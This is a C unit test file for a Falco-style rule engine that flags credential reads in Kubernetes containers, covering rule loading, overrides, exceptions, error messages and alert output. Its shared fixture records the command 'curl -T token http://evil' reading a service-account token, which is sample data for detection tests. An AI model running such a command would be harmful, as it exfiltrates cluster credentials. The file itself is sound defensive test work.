// SPDX-License-Identifier: Apache-2.0
/* test_rules.c - rule files: load, append/override, exceptions, errors, output. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <cjson/cJSON.h>
#include <cmocka.h>

#include "user/fields.h"
#include "user/json.h"
#include "user/rules.h"

static char tmpdir[64];
static int ntmp;

static int setup(void **state)
{
	strcpy(tmpdir, "/tmp/cw-test-rules-XXXXXX");
	return mkdtemp(tmpdir) ? 0 : -1;
}

static int teardown(void **state)
{
	char cmd[128];

	snprintf(cmd, sizeof(cmd), "rm -rf %s", tmpdir);
	return system(cmd);
}

/* Write text to a new file; returns its path (static storage per call). */
static const char *write_tmp(const char *text)
{
	static char paths[32][128];
	char *p = paths[ntmp++ % 32];
	FILE *f;

	snprintf(p, 128, "%s/r%d.yaml", tmpdir, ntmp);
	f = fopen(p, "w");
	assert_non_null(f);
	fputs(text, f);
	fclose(f);
	return p;
}

/* rules_load(), checking that *out is set exactly when it returns 0. */
static struct rules *load(const char *const *files, int n, struct rules_diag *d)
{
	struct rules *r = (struct rules *)1;
	int err = rules_load(&r, files, n, d);

	if (err)
		assert_true(err == -EINVAL || err == -ENOMEM);
	assert_int_equal(err == 0, r != NULL);
	return r;
}

static struct rules *load1(const char *text, struct rules_diag *d)
{
	const char *files[] = { write_tmp(text) };

	return load(files, 1, d);
}

static void base_record(struct cw_record *rec)
{
	record_reset(rec);
	field_set_str(rec, CW_F_EVT_TYPE, 0, "openat");
	field_set_str(rec, CW_F_PROC_NAME, 0, "curl");
	field_set_u64(rec, CW_F_PROC_PID, 0, 4242);
	field_set_str(rec, CW_F_PROC_CMDLINE, 0, "curl -T token http://evil");
	field_set_str(rec, CW_F_PROC_PNAME, 0, "bash");
	field_set_str(rec, CW_F_FD_NAME, 0, "/var/run/secrets/kubernetes.io/serviceaccount/token");
	field_set_str(rec, CW_F_FD_FLAGS, 0, "O_RDONLY|O_CLOEXEC");
	field_set_str(rec, CW_F_CONTAINER_ID, 0, "abcdef012345");
	field_set_str(rec, CW_F_K8S_NS_NAME, 0, "default");
	field_set_str(rec, CW_F_K8S_POD_NAME, 0, "web-1");
	field_set_str(rec, CW_F_CRED_KIND, 0, "sa_token");
	field_set_str(rec, CW_F_CRED_OWNER_NS, 0, "prod");
	field_set_str(rec, CW_F_CRED_OWNER_POD, 0, "api-0");
	field_set_u64(rec, CW_F_CRED_SAME_POD, 0, 0);
}

struct matches {
	int n;
	const char *names[8];
	const struct cw_rule *rules[8];
};

static void collect(void *ctx, const struct cw_rule *rule, const struct cw_record *rec)
{
	struct matches *m = ctx;

	if (m->n < 8) {
		m->rules[m->n] = rule;
		m->names[m->n++] = rule_name(rule);
	}
}

static const char *first_match(const struct rules *r, const struct cw_record *rec)
{
	static struct matches m;

	memset(&m, 0, sizeof(m));
	return rules_eval(r, rec, collect, &m) ? m.names[0] : NULL;
}

static void test_rules_default_file_loads(void **state)
{
	const char *files[] = { "rules/credwatch_rules.yaml" };
	struct rules_diag d;
	struct rules *r = load(files, 1, &d);

	if (!r)
		rules_diag_print(&d, stderr);
	assert_non_null(r);
	assert_int_equal(rules_count(r), 11);
	assert_int_equal(rules_nfiles(r), 1);
	rules_free(r);
}

/*
 * Default rules on environ reads: another pod's or the host's environment
 * read from a container alerts, whatever the reader calls itself; its own
 * pod's, or a host reader's, does not (the file rules leave environ alone);
 * the node-agent exception needs namespace and image together.
 */
static void test_rules_default_environ_reads(void **state)
{
	const char *files[] = { "rules/credwatch_rules.yaml" };
	const char *rule = "Environment of another pod or the host read from a container";
	struct rules_diag d;
	struct cw_record rec;
	struct rules *r = load(files, 1, &d);

	assert_non_null(r);
	base_record(&rec);
	field_set_str(&rec, CW_F_CRED_KIND, 0, "environ");
	field_set_str(&rec, CW_F_FD_NAME, 0, "/proc/77/environ");
	field_set_u64(&rec, CW_F_CRED_OWNER_PID, 0, 77);
	field_set_str(&rec, CW_F_PROC_NAME, 0, "falco");	/* a name is no exception */
	assert_string_equal(first_match(r, &rec), rule);
	field_set_str(&rec, CW_F_CRED_OWNER_POD, 0, "");	/* the host's */
	assert_string_equal(first_match(r, &rec), rule);
	field_set_str(&rec, CW_F_PROC_NAME, 0, "sh");
	field_set_u64(&rec, CW_F_CRED_SAME_POD, 0, 1);		/* its own pod's: no rule */
	assert_null(first_match(r, &rec));
	field_set_u64(&rec, CW_F_CRED_SAME_POD, 0, 0);
	field_set_str(&rec, CW_F_CONTAINER_IMAGE_REPOSITORY, 0, "docker.io/falcosecurity/falco");
	assert_string_equal(first_match(r, &rec), rule);	/* image alone: not the agent */
	field_set_str(&rec, CW_F_K8S_NS_NAME, 0, "falco");
	assert_null(first_match(r, &rec));			/* its namespace and image */
	base_record(&rec);
	field_set_str(&rec, CW_F_CRED_KIND, 0, "environ");
	field_set_str(&rec, CW_F_CONTAINER_ID, 0, "host");	/* ps e on the node */
	field_set_str(&rec, CW_F_PROC_NAME, 0, "bash");
	assert_null(first_match(r, &rec));
	rules_free(r);
}

static void test_rules_falco_style_file_loads_unchanged(void **state)
{
	const char *files[] = { "tests/fixtures/rules/falco_style.yaml" };
	struct rules_diag d;
	struct cw_record rec;
	struct rules *r = load(files, 1, &d);

	if (!r)
		rules_diag_print(&d, stderr);
	assert_non_null(r);
	assert_int_equal(rules_count(r), 2);	/* one is enabled: false */
	base_record(&rec);
	assert_string_equal(first_match(r, &rec), "Read sensitive file by credential tool");
	/* exception proc_in_namespace: bash in kube-* */
	field_set_str(&rec, CW_F_PROC_NAME, 0, "bash");
	field_set_str(&rec, CW_F_K8S_NS_NAME, 0, "kube-system");
	assert_string_equal(first_match(r, &rec), "Cross pod token read");
	/* exception known_cmdlines (one-field form, comps: in) */
	field_set_str(&rec, CW_F_K8S_NS_NAME, 0, "default");
	field_set_str(&rec, CW_F_PROC_CMDLINE, 0, "bash -c true");
	assert_string_equal(first_match(r, &rec), "Cross pod token read");
	/* a list of lists: fish is not a shell until the local file says so */
	base_record(&rec);
	field_set_str(&rec, CW_F_PROC_NAME, 0, "fish");
	assert_string_equal(first_match(r, &rec), "Cross pod token read");
	rules_free(r);
}

static void test_rules_local_file_appends_and_overrides_in_order(void **state)
{
	const char *files[] = {
		"tests/fixtures/rules/falco_style.yaml",
		"tests/fixtures/rules/falco_style_local.yaml",
	};
	struct rules_diag d;
	struct cw_record rec;
	struct matches m = { 0 };
	struct rules *r = load(files, 2, &d);

	if (!r)
		rules_diag_print(&d, stderr);
	assert_non_null(r);
	assert_int_equal(rules_count(r), 3);	/* Noisy debug rule switched on */
	base_record(&rec);
	/* list append: fish is a shell now */
	field_set_str(&rec, CW_F_PROC_NAME, 0, "fish");
	assert_string_equal(first_match(r, &rec), "Read sensitive file by credential tool");
	/* macro override: bash under healthcheck is known */
	field_set_str(&rec, CW_F_PROC_NAME, 0, "bash");
	field_set_str(&rec, CW_F_PROC_PNAME, 0, "healthcheck");
	assert_string_equal(first_match(r, &rec), "Cross pod token read");
	/* appended exception values: trusted image */
	base_record(&rec);
	field_set_str(&rec, CW_F_CONTAINER_IMAGE_REPOSITORY, 0, "registry.example/debug");
	assert_string_equal(first_match(r, &rec), "Cross pod token read");
	/* condition append + priority replace */
	field_set_str(&rec, CW_F_K8S_NS_NAME, 0, "kube-system");
	assert_string_equal(first_match(r, &rec), "Noisy debug rule");
	rules_set_match_all(r, true);
	base_record(&rec);
	assert_int_equal(rules_eval(r, &rec, collect, &m), 3);
	assert_string_equal(m.names[0], "Read sensitive file by credential tool");
	assert_string_equal(m.names[1], "Cross pod token read");
	assert_string_equal(m.names[2], "Noisy debug rule");
	rules_free(r);
}

static void test_rules_append_override_and_redefine(void **state)
{
	const char *a = write_tmp(
		"- list: l\n  items: [a]\n"
		"- macro: m\n  condition: proc.name in (l)\n"
		"- rule: First\n  desc: d\n  condition: m\n  output: first %proc.name\n"
		"  priority: info\n  tags: [x]\n"
		"- rule: Second\n  desc: d\n  condition: proc.name = zz\n  output: o\n"
		"  priority: info\n");
	const char *b = write_tmp(
		"- list: l\n  items: [b]\n  append: true\n"
		"- macro: m\n  condition: or proc.name = c\n  append: true\n"
		"- rule: First\n  condition: and not proc.pid = 7\n  tags: [y]\n  append: true\n"
		"- rule: Second\n  desc: d2\n  condition: proc.name = d\n  output: o2\n"
		"  priority: Emergency\n");
	const char *files[] = { a, b };
	struct rules_diag d;
	struct cw_record rec;
	struct matches m = { 0 };
	struct rules *r = load(files, 2, &d);

	if (!r)
		rules_diag_print(&d, stderr);
	assert_non_null(r);
	record_reset(&rec);
	const char *names[] = { "a", "b", "c", "d", "e" };
	const char *want[] = { "First", "First", "First", "Second", NULL };

	for (int i = 0; i < 5; i++) {
		const char *got;

		field_set_str(&rec, CW_F_PROC_NAME, 0, names[i]);
		got = first_match(r, &rec);
		if (want[i])
			assert_string_equal(got, want[i]);
		else
			assert_null(got);
	}
	field_set_str(&rec, CW_F_PROC_NAME, 0, "a");
	field_set_u64(&rec, CW_F_PROC_PID, 0, 7);
	assert_null(first_match(r, &rec));
	/* redefinition keeps the place and replaces everything */
	field_set_str(&rec, CW_F_PROC_NAME, 0, "d");
	rules_set_match_all(r, true);
	assert_int_equal(rules_eval(r, &rec, collect, &m), 1);
	assert_string_equal(m.names[0], "Second");
	assert_int_equal(rule_priority(m.rules[0]), CW_PRIO_EMERGENCY);
	assert_string_equal(rule_desc(m.rules[0]), "d2");
	/* the appended tag joins the first definition's */
	field_set_str(&rec, CW_F_PROC_NAME, 0, "a");
	field_set_u64(&rec, CW_F_PROC_PID, 0, 1);
	m.n = 0;
	assert_int_equal(rules_eval(r, &rec, collect, &m), 1);
	assert_int_equal(rule_ntags(m.rules[0]), 2);
	assert_string_equal(rule_tag(m.rules[0], 1), "y");
	assert_null(rule_tag(m.rules[0], 2));
	rules_free(r);
}

static void test_rules_exceptions_forms(void **state)
{
	struct rules_diag d;
	struct cw_record rec;
	struct rules *r = load1(
		"- list: allowed\n  items: [wget, nc]\n"
		"- rule: R\n  desc: d\n  output: o\n  priority: notice\n"
		"  condition: proc.name exists\n"
		"  exceptions:\n"
		"    - name: pairs\n"
		"      fields: [proc.name, fd.name, proc.pid]\n"
		"      comps: [=, startswith, '>']\n"
		"      values:\n"
		"        - [curl, /etc/, 100]\n"
		"    - name: by_list\n"
		"      fields: [proc.name]\n"
		"      comps: [in]\n"
		"      values:\n"
		"        - [allowed]\n"
		"        - [[vim, 'my tool']]\n"
		"    - name: single\n"
		"      fields: proc.pname\n"
		"      values: [systemd, \"cron d\"]\n"
		"    - name: empty\n"
		"      fields: [proc.name]\n", &d);

	if (!r)
		rules_diag_print(&d, stderr);
	assert_non_null(r);
	record_reset(&rec);
	field_set_str(&rec, CW_F_PROC_NAME, 0, "curl");
	field_set_str(&rec, CW_F_FD_NAME, 0, "/etc/x");
	field_set_u64(&rec, CW_F_PROC_PID, 0, 50);
	assert_int_equal(rules_eval(r, &rec, NULL, NULL), 1);	/* pid not > 100 */
	field_set_u64(&rec, CW_F_PROC_PID, 0, 500);
	assert_int_equal(rules_eval(r, &rec, NULL, NULL), 0);
	field_set_str(&rec, CW_F_FD_NAME, 0, "/var/x");
	assert_int_equal(rules_eval(r, &rec, NULL, NULL), 1);
	field_set_str(&rec, CW_F_PROC_NAME, 0, "nc");
	assert_int_equal(rules_eval(r, &rec, NULL, NULL), 0);
	field_set_str(&rec, CW_F_PROC_NAME, 0, "my tool");
	assert_int_equal(rules_eval(r, &rec, NULL, NULL), 0);
	field_set_str(&rec, CW_F_PROC_NAME, 0, "zsh");
	assert_int_equal(rules_eval(r, &rec, NULL, NULL), 1);
	field_set_str(&rec, CW_F_PROC_PNAME, 0, "cron d");
	assert_int_equal(rules_eval(r, &rec, NULL, NULL), 0);
	rules_free(r);
}

struct error_case {
	const char *yaml;
	int line, col;
	const char *msg;
};

static const struct error_case error_cases[] = {
	{ "- rule: R\n  desc: d\n  output: o\n  priority: notice\n  condition: proc.nme = x\n",
	  5, 14, "unknown field 'proc.nme'" },
	{ "- rule: R\n  desc: d\n  output: o\n  priority: notice\n  condition: >\n    proc.name = x and\n      no_such_macro\n",
	  7, 7, "undefined macro 'no_such_macro'" },
	{ "- rule: R\n  desc: d\n  output: o\n  priority: notice\n  condition: proc.name in (nolist) and x\n",
	  5, 40, "undefined macro 'x'" },
	{ "- rule: R\n  desc: d\n  output: o\n  priority: notice\n  condition: proc.name in nolist\n",
	  5, 27, "undefined list 'nolist'" },
	{ "- rule: R\n  desc: d\n  output: o\n  priority: notice\n  condition: proc.pid = abc\n",
	  5, 25, "is not an unsigned integer" },
	{ "- rule: R\n  desc: d\n  output: o\n  priority: notice\n  condition: \"proc.pid contains 1\"\n",
	  5, 24, "operator 'contains' is not supported for numeric field" },
	{ "- rule: R\n  desc: d\n  output: o\n  priority: loud\n  condition: proc.pid = 1\n",
	  4, 13, "bad priority 'loud'" },
	{ "- rule: R\n  desc: d\n  output: o\n  priority: notice\n  condition: [oops\n",
	  6, 1, "YAML syntax" },
	{ "- rule: R\n  desc: d\n  priority: notice\n  condition: proc.pid = 1\n",
	  1, 3, "missing required key 'output'" },
	{ "- rule: R\n  condition: and x\n  append: true\n",
	  1, 3, "append but no rule 'R' is defined before" },
	{ "- list: l\n  items: [a]\n  append: true\n",
	  1, 3, "append but no list 'l'" },
	{ "- macro: m\n  condition: proc.nope exists\n",
	  2, 14, "macro 'm': unknown field 'proc.nope'" },
	{ "- list: pids\n  items: [1, two]\n- rule: R\n  desc: d\n  output: o\n  priority: notice\n  condition: proc.pid in (pids)\n",
	  2, 14, "list 'pids': value 'two'" },
	{ "- rule: R\n  desc: d\n  output: o\n  priority: notice\n  condition: proc.pid = 1\n"
	  "  exceptions:\n    - name: e\n      fields: [proc.name, proc.pid]\n      values:\n        - [a]\n",
	  10, 11, "value has 1 items, fields has 2" },
	{ "- rule: R\n  desc: d\n  output: o\n  priority: notice\n  condition: proc.pid = 1\n"
	  "  exceptions:\n    - name: e\n      fields: [proc.pid]\n      values:\n        - [x1]\n",
	  10, 12, "value 'x1' for numeric field 'proc.pid'" },
	{ "- rule: R\n  desc: d\n  output: o\n  priority: notice\n  condition: proc.pid = 1\n"
	  "  exceptions:\n    - name: e\n      fields: [proc.nope]\n      values:\n        - [x1]\n",
	  8, 16, "unknown field 'proc.nope'" },
	{ "- rule: R\n  desc: d\n  output: o\n  priority: notice\n  condition: proc.pid = 1\n  enabled: maybe\n",
	  6, 12, "expected true or false" },
	{ "rule: R\n", 1, 1, "a rules file is a sequence of items" },
	/* Falco 0.37+ override rules */
	{ "- rule: R\n  desc: d\n  output: o\n  priority: notice\n  condition: proc.pid = 1\n"
	  "- rule: R\n  condition: and proc.pid = 2\n  append: true\n  override:\n    condition: append\n",
	  6, 3, "append and override cannot be used together" },
	{ "- macro: m\n  condition: proc.pid = 1\n"
	  "- macro: m\n  condition: or proc.pid = 2\n  append: true\n  override:\n    condition: append\n",
	  3, 3, "macro 'm': append and override cannot be used together" },
	{ "- list: l\n  items: [a]\n- list: l\n  items: [b]\n  append: true\n  override:\n    items: append\n",
	  3, 3, "list 'l': append and override cannot be used together" },
	{ "- rule: R\n  desc: d\n  output: o\n  priority: notice\n  condition: proc.pid = 1\n"
	  "- rule: R\n  priority: debug\n  enabled: false\n  override:\n    priority: replace\n",
	  8, 12, "rule 'R': 'enabled' is not listed in override" },
	{ "- rule: R\n  desc: d\n  output: o\n  priority: notice\n  condition: proc.pid = 1\n"
	  "- rule: R\n  priority: debug\n  override:\n    priority: replace\n    desc: replace\n",
	  9, 5, "override of 'desc', which the item does not have" },
	{ "- rule: R\n  desc: d\n  output: o\n  priority: notice\n  condition: proc.pid = 1\n"
	  "- rule: R\n  priority: debug\n  override:\n    priority: append\n",
	  9, 15, "'priority' cannot be overridden with append" },
	{ "- rule: Nope\n  enabled: false\n", 1, 3, "'enabled' but no rule 'Nope' is defined before" },
};

static void test_rules_errors_report_file_line_col(void **state)
{
	struct rules_diag d;

	for (size_t i = 0; i < sizeof(error_cases) / sizeof(error_cases[0]); i++) {
		const struct error_case *tc = &error_cases[i];
		const char *path = write_tmp(tc->yaml);
		const char *files[] = { path };
		struct rules *r = load(files, 1, &d);
		bool found = false;

		if (r)
			fail_msg("case %zu loaded", i);
		for (int k = 0; k < d.count && !found; k++)
			found = !strcmp(d.items[k].file, path) && d.items[k].line == tc->line &&
				d.items[k].col == tc->col && strstr(d.items[k].msg, tc->msg);
		if (!found) {
			rules_diag_print(&d, stderr);
			fail_msg("case %zu: want %d:%d: ...%s...", i, tc->line, tc->col, tc->msg);
		}
	}
}

/* What Falco 0.44 warns about and loads anyway. */
static void test_rules_falco_warnings_are_not_errors(void **state)
{
	struct rules_diag d;
	struct cw_record rec;
	struct rules *r = load1(
		"- rule: R\n  desc: d\n  output: o\n  priority: notice\n  condition: proc.name = cat\n"
		"  outptu: x\n  capture: true\n  capture_duration: 10\n  warn_evttypes: false\n"
		"  exceptions:\n"
		"    - name: e\n      fields: proc.pname\n      values: [bash]\n"
		"    - name: e\n      fields: proc.pname\n      values: [zsh]\n      note: x\n"
		"- rules: typo\n"
		"- rule: Empty exceptions\n  desc: d\n  output: o\n  priority: debug\n"
		"  condition: proc.name = ls\n  exceptions:\n"
		"- rule: Audit\n  desc: d\n  output: '%ka.user.name'\n  priority: notice\n"
		"  source: k8s_audit\n  condition: ka.verb = create\n", &d);

	if (!r)
		rules_diag_print(&d, stderr);
	assert_non_null(r);
	assert_int_equal(d.nwarnings, 4);
	assert_non_null(strstr(d.warnings[0].msg, "rule: unknown key 'outptu', ignored"));
	assert_int_equal(d.warnings[0].line, 6);
	assert_non_null(strstr(d.warnings[1].msg, "exception: unknown key 'note', ignored"));
	assert_non_null(strstr(d.warnings[2].msg, "exception 'e' is defined twice; both apply"));
	assert_non_null(strstr(d.warnings[3].msg, "unknown item"));
	assert_int_equal(d.warnings[3].line, 18);
	assert_int_equal(rules_count(r), 2);	/* the k8s_audit rule is inapplicable */
	record_reset(&rec);
	field_set_str(&rec, CW_F_PROC_NAME, 0, "cat");
	field_set_str(&rec, CW_F_PROC_PNAME, 0, "sh");
	assert_int_equal(rules_eval(r, &rec, NULL, NULL), 1);
	field_set_str(&rec, CW_F_PROC_PNAME, 0, "zsh");	/* the second 'e' applies too */
	assert_int_equal(rules_eval(r, &rec, NULL, NULL), 0);
	field_set_str(&rec, CW_F_PROC_NAME, 0, "ls");
	assert_int_equal(rules_eval(r, &rec, NULL, NULL), 1);
	rules_free(r);
}

static void test_rules_reports_every_error_not_just_the_first(void **state)
{
	struct rules_diag d;
	const char *files[] = {
		write_tmp("- rule: A\n  desc: d\n  output: o\n  priority: bad\n  condition: proc.pid = 1\n"
			  "- rule: B\n  desc: d\n  output: o\n  priority: info\n  condition: proc.x = 1\n"),
		"/nonexistent/rules.yaml",
		write_tmp("- macro: m\n  condition: nope\n"),
	};

	assert_null(load(files, 3, &d));
	assert_int_equal(d.count, 4);
	assert_int_equal(d.items[0].line, 4);
	assert_string_equal(d.items[1].file, "/nonexistent/rules.yaml");
	assert_int_equal(d.items[1].line, 0);
	assert_non_null(strstr(d.items[2].msg, "undefined macro 'nope'"));
	assert_non_null(strstr(d.items[3].msg, "unknown field 'proc.x'"));
}

static void test_rules_output_substitutes_fields_and_na(void **state)
{
	struct rules_diag d;
	struct cw_record rec;
	struct jbuf jb;
	struct matches m = { 0 };
	struct rules *r = load1(
		"- rule: R\n  desc: d\n  priority: CRITICAL\n  condition: proc.pid > 0\n"
		"  tags: [a, T1528]\n"
		"  output: \"%proc.name read %fd.name. gp=%proc.aname[2] x=%nope.field 100%% pid=%proc.pid same=%cred.same_pod\"\n",
		&d);
	cJSON *o;

	assert_non_null(r);
	base_record(&rec);
	rec.time_ns = 1763858601123456789ull;
	assert_int_equal(rules_eval(r, &rec, collect, &m), 1);
	assert_int_equal(rule_priority(m.rules[0]), CW_PRIO_CRITICAL);
	jbuf_init(&jb);
	rule_output(m.rules[0], &rec, &jb);
	assert_string_equal(jb.buf, "curl read /var/run/secrets/kubernetes.io/serviceaccount/token. "
			    "gp=<NA> x=<NA> 100% pid=4242 same=false");
	jbuf_reset(&jb);
	jbuf_obj_begin(&jb);
	rule_output_fields(m.rules[0], &rec, &jb);
	jbuf_obj_end(&jb);
	o = cJSON_Parse(jb.buf);
	assert_non_null(o);
	assert_string_equal(cJSON_GetObjectItem(o, "proc.name")->valuestring, "curl");
	assert_true(cJSON_IsNull(cJSON_GetObjectItem(o, "proc.aname[2]")));
	assert_true(cJSON_IsNull(cJSON_GetObjectItem(o, "nope.field")));
	assert_int_equal(cJSON_GetObjectItem(o, "proc.pid")->valueint, 4242);
	assert_true(cJSON_IsFalse(cJSON_GetObjectItem(o, "cred.same_pod")));
	assert_true(cJSON_IsNumber(cJSON_GetObjectItem(o, "evt.time")));
	assert_non_null(strstr(jb.buf, "\"evt.time\":1763858601123456789"));
	assert_int_equal(cJSON_GetObjectItem(o, "evt.count")->valueint, 1);
	assert_int_equal(cJSON_GetArraySize(o), 8);
	cJSON_Delete(o);
	jbuf_free(&jb);
	rules_free(r);
}

static void test_rules_validate_prints_count_or_errors(void **state)
{
	char *obuf = NULL, *ebuf = NULL;
	size_t olen = 0, elen = 0;
	FILE *out = open_memstream(&obuf, &olen), *err = open_memstream(&ebuf, &elen);
	const char *good[] = { "rules/credwatch_rules.yaml", "tests/fixtures/rules/falco_style.yaml" };
	const char *bad[] = { write_tmp("- rule: R\n  desc: d\n  output: o\n  priority: x\n  condition: proc.pid = 1\n") };

	assert_int_equal(rules_validate(good, 2, false, out, err), 0);
	assert_int_equal(rules_validate(bad, 1, false, out, err), 2);
	fclose(out);
	fclose(err);
	assert_string_equal(obuf, "13 rules loaded from 2 files\n");
	assert_non_null(strstr(ebuf, ":4:13: rule 'R': bad priority 'x'"));
	assert_ptr_equal(strstr(ebuf, bad[0]), ebuf);
	free(obuf);
	free(ebuf);
}

static void test_rules_priority_names_round_trip(void **state)
{
	static const char *const names[] = {
		"Emergency", "Alert", "Critical", "Error", "Warning", "Notice", "Informational", "Debug",
	};

	for (int i = 0; i < 8; i++) {
		assert_string_equal(priority_name(i), names[i]);
		assert_int_equal(priority_parse(names[i]), i);
	}
	assert_int_equal(priority_parse("WARNING"), CW_PRIO_WARNING);
	assert_int_equal(priority_parse("info"), CW_PRIO_INFORMATIONAL);
	assert_int_equal(priority_parse("warn"), -EINVAL);
	assert_string_equal(priority_name(9), "Unknown");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_rules_default_file_loads),
		cmocka_unit_test(test_rules_default_environ_reads),
		cmocka_unit_test(test_rules_falco_style_file_loads_unchanged),
		cmocka_unit_test(test_rules_local_file_appends_and_overrides_in_order),
		cmocka_unit_test(test_rules_append_override_and_redefine),
		cmocka_unit_test(test_rules_exceptions_forms),
		cmocka_unit_test(test_rules_errors_report_file_line_col),
		cmocka_unit_test(test_rules_falco_warnings_are_not_errors),
		cmocka_unit_test(test_rules_reports_every_error_not_just_the_first),
		cmocka_unit_test(test_rules_output_substitutes_fields_and_na),
		cmocka_unit_test(test_rules_validate_prints_count_or_errors),
		cmocka_unit_test(test_rules_priority_names_round_trip),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
